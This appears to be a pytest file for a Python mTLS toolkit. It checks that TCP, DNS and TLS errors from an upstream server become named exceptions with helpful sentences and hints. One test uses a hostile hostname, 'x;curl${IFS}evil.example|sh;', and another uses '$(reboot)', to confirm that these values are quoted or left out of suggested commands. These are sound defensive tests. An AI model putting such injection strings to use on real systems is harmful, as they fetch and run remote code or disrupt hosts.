"""Foreign exceptions of the upstream side become ours, with a sentence that names the peer and a hint."""

from __future__ import annotations

import errno
import os
import socket
import ssl
from datetime import UTC, datetime, timedelta

import pytest

from mtlskit.config.values import Verify, VerifyMode
from mtlskit.errors import (
    Code,
    UpstreamError,
    UpstreamLost,
    UpstreamRefusedUs,
    UpstreamTimeout,
    UpstreamUnreachable,
    UpstreamUntrusted,
)
from mtlskit.net.faults import closed_early, dns_fault, tcp_fault, tls_fault
from mtlskit.net.presented import Presented

WHERE = "db.example:5432 (192.0.2.1)"


def _ssl_error(reason: str | None, kind: type[ssl.SSLError] = ssl.SSLError) -> ssl.SSLError:
    error = kind(1, f"[SSL: {reason}]")
    error.reason = reason  # type: ignore[assignment]
    return error


def _unverified(code: int, message: str) -> ssl.SSLCertVerificationError:
    error = ssl.SSLCertVerificationError(1, "certificate verify failed")
    error.verify_code, error.verify_message = code, message
    return error


@pytest.mark.parametrize(
    ("number", "kind", "code"),
    [
        (errno.ECONNREFUSED, UpstreamUnreachable, Code.TCP_REFUSED),
        (errno.ETIMEDOUT, UpstreamTimeout, Code.TCP_TIMEOUT),
        (errno.ECONNRESET, UpstreamLost, Code.TCP_RESET),
        (errno.EPIPE, UpstreamLost, Code.TCP_RESET),
        (errno.EHOSTUNREACH, UpstreamUnreachable, Code.TCP_UNREACHABLE),
        (errno.ENETUNREACH, UpstreamUnreachable, Code.TCP_UNREACHABLE),
    ],
)
def test_tcp(number: int, kind: type[UpstreamError], code: Code) -> None:
    error = tcp_fault(WHERE, OSError(number, os.strerror(number)))
    assert type(error) is kind
    assert error.code is code
    assert WHERE in error.sentence
    assert error.hint


def test_a_name_that_does_not_resolve() -> None:
    for error in (
        dns_fault("db.example", socket.gaierror(-2, "Name or service not known")),
        tcp_fault("db.example", socket.gaierror(-2, "Name or service not known")),
    ):
        assert error.code is Code.DNS_FAILED
        assert error.sentence == "db.example cannot be resolved: Name or service not known"


@pytest.mark.parametrize("number", [socket.EAI_NONAME, socket.EAI_AGAIN, socket.EAI_NODATA])
def test_a_name_is_quoted_in_a_command(number: int) -> None:
    """A cluster of Kafka's may have chosen it."""
    hint = dns_fault("x;curl${IFS}evil.example|sh;", socket.gaierror(number, "no")).hint
    assert hint.endswith("`getent hosts 'x;curl${IFS}evil.example|sh;'`")
    assert dns_fault("db.example", socket.gaierror(number, "no")).hint.endswith("`getent hosts db.example`")


@pytest.mark.parametrize(
    ("reason", "kind", "code"),
    [
        ("TLSV1_ALERT_UNKNOWN_CA", UpstreamRefusedUs, Code.TLS_CLIENT_CA_UNKNOWN),
        ("TLSV13_ALERT_CERTIFICATE_REQUIRED", UpstreamRefusedUs, Code.TLS_CLIENT_CERTIFICATE_REQUIRED),
        ("TLSV1_ALERT_PROTOCOL_VERSION", UpstreamRefusedUs, Code.TLS_VERSION),
        ("UNSUPPORTED_PROTOCOL", UpstreamRefusedUs, Code.TLS_VERSION),
        ("WRONG_VERSION_NUMBER", UpstreamRefusedUs, Code.TLS_HANDSHAKE_FAILED),
        ("HTTP_REQUEST", UpstreamRefusedUs, Code.TLS_HANDSHAKE_FAILED),
        ("SOMETHING_NEW", UpstreamRefusedUs, Code.TLS_HANDSHAKE_FAILED),
        (None, UpstreamRefusedUs, Code.TLS_HANDSHAKE_FAILED),
    ],
)
def test_tls(reason: str | None, kind: type[UpstreamError], code: Code) -> None:
    error = tls_fault(WHERE, _ssl_error(reason), Verify())
    assert type(error) is kind
    assert error.code is code
    assert error.sentence.startswith(WHERE)
    assert error.hint


@pytest.mark.parametrize("kind", [ssl.SSLEOFError, ssl.SSLZeroReturnError])
def test_a_handshake_that_ends_without_a_word(kind: type[ssl.SSLError]) -> None:
    error = tls_fault(WHERE, _ssl_error(None, kind), Verify())
    assert error.sentence == closed_early(WHERE, "during the TLS handshake").sentence
    assert error.code is Code.UPSTREAM_CLOSED


@pytest.mark.parametrize(
    ("number", "code"),
    [
        (10, Code.TLS_SERVER_EXPIRED),
        (9, Code.TLS_SERVER_EXPIRED),
        (62, Code.TLS_NAME_MISMATCH),
        (64, Code.TLS_NAME_MISMATCH),
        (18, Code.TLS_CHAIN_NOT_TRUSTED),
        (20, Code.TLS_CHAIN_NOT_TRUSTED),
    ],
)
@pytest.mark.parametrize("verify", [Verify(), Verify(VerifyMode.NAME, "other.example")], ids=str)
def test_a_server_that_we_do_not_trust(number: int, code: Code, verify: Verify) -> None:
    error = tls_fault(WHERE, _unverified(number, "what OpenSSL says."), verify)
    assert isinstance(error, UpstreamUntrusted)
    assert error.code is code
    # OpenSSL's words about a name repeat the one that was expected.
    assert error.sentence.endswith("what OpenSSL says") is (code is not Code.TLS_NAME_MISMATCH)
    told = tls_fault(WHERE, _unverified(number, "what OpenSSL says."), verify, trust="ca.crt (CN=root)").sentence
    assert told.endswith("; compared with ca.crt (CN=root)") is (code is Code.TLS_CHAIN_NOT_TRUSTED)
    if code is Code.TLS_NAME_MISMATCH and verify.name:
        assert verify.name in error.sentence


def _other_name(where: str, names: str | None, verify: Verify | None = None, subject: str = "CN=x") -> UpstreamError:
    leaf = None if names is None else Presented(subject, "CN=ca", names)
    return tls_fault(where, _unverified(62, "Hostname mismatch, not valid for 'vm'."), verify or Verify(), leaf=leaf)


@pytest.mark.parametrize(
    ("where", "verify", "expected"),
    [
        ("vm:5432 (127.0.0.1)", Verify(), "vm"),
        ("192.0.2.1:5432", Verify(), "192.0.2.1"),
        ("[2001:db8::7]:5432", Verify(), "2001:db8::7"),
        ("vm:5432 (::1)", Verify(VerifyMode.NAME, "other.example"), "other.example"),
    ],
)
def test_a_mismatch_says_each_name_once(where: str, verify: Verify, expected: str) -> None:
    assert _other_name(where, "localhost", verify).sentence == (
        f"{where} presents a certificate for another name than {expected}; its certificate is for localhost"
    )
    assert _other_name(where, None, verify).sentence.endswith(f" for another name than {expected}")


@pytest.mark.parametrize(
    ("names", "offered"),
    [
        ("localhost", "localhost"),
        ("127.0.0.1, db.example, other.example and 2 more", "db.example"),
        ("db.example and 2 more", "db.example"),
        ("192.0.2.1, 2001:db8::7", "192.0.2.1"),
        ("*.example, db.example", "db.example"),
        ("*.example", None),
        ("$(reboot), a;b, -x, a\\0ab", None),
        (None, None),
    ],
)
def test_a_mismatch_offers_a_name_of_the_certificate(names: str | None, offered: str | None) -> None:
    name = offered or "THE-NAME-IN-ITS-CERTIFICATE"
    assert _other_name(WHERE, names).hint == (
        f'if this is the right server: --verify name:{name} (in a file: verify = "name:{name}"), or --verify ca where '
        "only its CA counts"
    )


def test_a_subject_is_not_taken_for_names() -> None:
    subject = "CN=x\\, db.example"
    error = _other_name(WHERE, subject, subject=subject)
    assert "without a subjectAltName" in error.sentence
    assert subject in error.sentence
    assert "--verify ca" in error.hint
    assert "name:" not in error.hint


def _outside_its_dates(begins: timedelta, ends: timedelta) -> UpstreamError:
    now = datetime.now(UTC)
    leaf = Presented("CN=db", "CN=ca", "db.example", now + begins, now + ends)
    return tls_fault(WHERE, _unverified(9, "certificate is not yet valid"), Verify(), leaf=leaf)


def test_a_server_from_the_future_proves_that_the_clock_is_behind() -> None:
    error = _outside_its_dates(timedelta(days=1, minutes=1), timedelta(days=365))
    assert error.code is Code.TLS_SERVER_EXPIRED
    assert "this host's clock says" in error.sentence
    assert error.hint == "this host's clock seems to be behind, by 1 day at least: set it (`date -u` shows it)"
    assert "by 2 hours at least" in _outside_its_dates(timedelta(hours=2, minutes=1), timedelta(days=9)).hint


def test_a_server_that_has_expired_may_be_the_clocks_fault_too() -> None:
    error = _outside_its_dates(timedelta(days=-9), timedelta(days=-1))
    assert "its certificate is valid from" in error.sentence
    assert "if it is right, the server's certificate must be renewed" in error.hint
